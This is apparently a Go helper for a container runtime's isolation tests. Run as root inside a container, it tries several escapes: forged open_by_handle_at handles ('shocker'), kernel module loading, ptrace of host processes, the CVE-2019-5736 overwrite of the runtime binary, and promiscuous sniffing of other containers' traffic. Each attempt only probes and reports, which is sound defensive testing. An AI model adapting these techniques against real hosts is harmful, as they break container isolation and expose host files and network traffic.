// Command escape makes the escape attempts of TestUserNSEscapes that a VE's shell cannot make
// by itself. The test builds it statically and runs it as root inside a VE. Each attempt exits
// 0 when the escape worked, 1 when it was stopped, 2 when it could not be tried; it prints one
// line saying what happened. No attempt changes anything on the host if it works: it writes
// back what it read, or only looks.
package main

import (
	"bytes"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: escape handle|module|ptrace PID|exe MARK OUT|sniff MARK SECONDS")
		os.Exit(2)
	}
	var open bool
	var what string
	switch os.Args[1] {
	case "handle":
		open, what = handle()
	case "module":
		open, what = module()
	case "ptrace":
		pid, _ := strconv.Atoi(os.Args[2])
		open, what = ptrace(pid)
	case "exe":
		exe(os.Args[2], os.Args[3])
		return
	case "sniff":
		secs, _ := strconv.Atoi(os.Args[3])
		open, what = sniff(os.Args[2], time.Duration(secs)*time.Second)
	default:
		fmt.Fprintln(os.Stderr, "unknown attempt", os.Args[1])
		os.Exit(2)
	}
	fmt.Println(what)
	if !open {
		os.Exit(1)
	}
}

// handle is the "shocker" attack: open_by_handle_at with a forged handle for inode 2 (an
// ext4 root directory) of the file system "/" is on. Any answer but EPERM means the kernel
// let the VE decode handles, and a search over inode numbers reaches the whole host disk.
func handle() (bool, string) {
	mnt, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return false, "open /: " + err.Error()
	}
	defer unix.Close(mnt)
	// FILEID_INO32_GEN: a 32-bit inode number and a generation.
	fh := unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0})
	fd, err := unix.OpenByHandleAt(mnt, fh, unix.O_RDONLY)
	if err == nil {
		unix.Close(fd)
		return true, "open_by_handle_at opened a forged handle"
	}
	if err == unix.EPERM {
		return false, "open_by_handle_at: " + err.Error()
	}
	return true, "open_by_handle_at got past the permission check: " + err.Error()
}

// module asks the kernel to load a module from a file that is not one. Anything but EPERM
// means the capability check passed and a real module would have been loaded.
func module() (bool, string) {
	f, err := os.Open("/proc/self/exe")
	if err != nil {
		return false, "open: " + err.Error()
	}
	defer f.Close()
	err = unix.FinitModule(int(f.Fd()), "", 0)
	if err == unix.EPERM {
		return false, "finit_module: " + err.Error()
	}
	return true, fmt.Sprintf("finit_module got past the permission check: %v", err)
}

// ptrace attaches to pid (a host process's pid, which the VE must not reach).
func ptrace(pid int) (bool, string) {
	if err := unix.PtraceSeize(pid); err != nil {
		return false, fmt.Sprintf("ptrace %d: %v", pid, err)
	}
	unix.PtraceDetach(pid)
	return true, fmt.Sprintf("ptrace attached to host pid %d", pid)
}

// exe is CVE-2019-5736's attack on the runtime's binary: it waits for a process whose command
// line holds mark (the test makes vectl exec run a script whose interpreter is /proc/self/exe,
// so that the binary vectl entered the VE with runs inside it), then tries to open that
// process's /proc/PID/exe for writing, directly and through an O_PATH descriptor once the
// process is gone, and to write back the first byte it holds. It writes what it saw to out:
// "seen <exe link>" and then "open ..." or "stopped ..."; out.seen, empty, as soon as it has
// seen the process.
func exe(mark, out string) {
	deadline := time.Now().Add(60 * time.Second)
	for time.Now().Before(deadline) {
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			pid, err := strconv.Atoi(e.Name())
			if err != nil || pid == os.Getpid() {
				continue
			}
			cmd, _ := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
			if !bytes.Contains(cmd, []byte(mark)) || bytes.Contains(cmd, []byte("escape")) {
				continue
			}
			link, err := os.Readlink(filepath.Join("/proc", e.Name(), "exe"))
			if errors.Is(err, fs.ErrPermission) {
				// A sealed copy that this process may execute but not read (a memfd of mode
				// 0511) makes its runner undumpable: its exe link is closed to the VE too.
				link = "(exe unreadable: " + err.Error() + ")"
			}
			if link == "" || strings.HasPrefix(link, "/bin/") {
				continue
			}
			// out.seen tells the test that the process may end now (it holds it alive).
			os.WriteFile(out+".seen", nil, 0o644)
			res := exeAttack(pid)
			os.WriteFile(out, []byte("seen "+link+"\n"+res+"\n"), 0o644)
			return
		}
	}
	os.WriteFile(out, []byte("never seen\n"), 0o644)
}

func exeAttack(pid int) string {
	p := fmt.Sprintf("/proc/%d/exe", pid)
	var errs []string
	if fd, err := unix.Open(p, unix.O_WRONLY, 0); err == nil {
		defer unix.Close(fd)
		return writeBack(fd, p)
	} else {
		errs = append(errs, "open for writing: "+err.Error())
	}
	opath, err := unix.Open(p, unix.O_PATH, 0)
	if err != nil {
		return "stopped: " + strings.Join(append(errs, "O_PATH: "+err.Error()), "; ")
	}
	defer unix.Close(opath)
	// The process holds the binary busy while it runs; wait until it is gone.
	for i := 0; i < 500; i++ {
		if unix.Kill(pid, 0) != nil {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	fdPath := fmt.Sprintf("/proc/self/fd/%d", opath)
	fd, err := unix.Open(fdPath, unix.O_WRONLY, 0)
	if err != nil {
		return "stopped: " + strings.Join(append(errs, "reopen for writing: "+err.Error()), "; ")
	}
	defer unix.Close(fd)
	return writeBack(fd, fdPath)
}

// writeBack writes the file's first byte over itself: if that works, the binary could have
// been replaced.
func writeBack(fd int, path string) string {
	b := make([]byte, 1)
	rd, err := unix.Open(path, unix.O_RDONLY, 0)
	if err == nil {
		unix.Pread(rd, b, 0)
		unix.Close(rd)
	}
	if err != nil {
		return "stopped: opened for writing, but not for reading: " + err.Error()
	}
	if _, err := unix.Pwrite(fd, b, 0); err != nil {
		return "stopped: opened for writing, the write failed: " + err.Error()
	}
	return "open: wrote to the binary vectl entered the VE with"
}

// sniff listens on every interface of the VE for the given time, promiscuous, and reports
// whether any frame held mark (the test sends it to another VE).
func sniff(mark string, d time.Duration) (bool, string) {
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL)))
	if err != nil {
		return false, "packet socket: " + err.Error()
	}
	defer unix.Close(fd)
	ifs, _ := os.ReadDir("/sys/class/net")
	for _, i := range ifs {
		idx, err := ifIndex(i.Name())
		if err != nil {
			continue
		}
		mreq := unix.PacketMreq{Ifindex: int32(idx), Type: unix.PACKET_MR_PROMISC}
		unix.SetsockoptPacketMreq(fd, unix.SOL_PACKET, unix.PACKET_ADD_MEMBERSHIP, &mreq)
	}
	tv := unix.NsecToTimeval(int64(100 * time.Millisecond))
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv)
	buf := make([]byte, 65536)
	frames := 0
	for end := time.Now().Add(d); time.Now().Before(end); {
		n, _, err := unix.Recvfrom(fd, buf, 0)
		if err != nil {
			continue
		}
		frames++
		if bytes.Contains(buf[:n], []byte(mark)) {
			return true, fmt.Sprintf("captured another VE's traffic (after %d frames)", frames)
		}
	}
	return false, fmt.Sprintf("nothing of another VE's traffic in %d frames", frames)
}

func ifIndex(name string) (int, error) {
	b, err := os.ReadFile(filepath.Join("/sys/class/net", name, "ifindex"))
	if err != nil {
		return 0, err
	}
	return strconv.Atoi(strings.TrimSpace(string(b)))
}

// htons for the little-endian machines the tests run on.
func htons(v uint16) uint16 { return v<<8 | v>>8 }
